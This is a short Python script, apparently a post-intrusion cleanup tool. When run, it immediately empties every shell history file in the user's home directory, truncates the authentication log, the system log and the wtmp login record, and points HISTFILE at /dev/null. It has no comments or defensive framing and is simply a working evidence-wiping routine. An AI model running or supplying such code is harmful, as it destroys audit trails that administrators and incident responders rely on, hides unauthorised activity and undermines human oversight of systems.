import glob
import os

LOGS = ["/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp"]


def scrub():
    for hist in glob.glob(os.path.expanduser("~/.*_history")):
        open(hist, "w").close()
    for log in LOGS:
        if os.path.exists(log):
            with open(log, "w"):
                pass
    os.environ["HISTFILE"] = "/dev/null"


scrub()
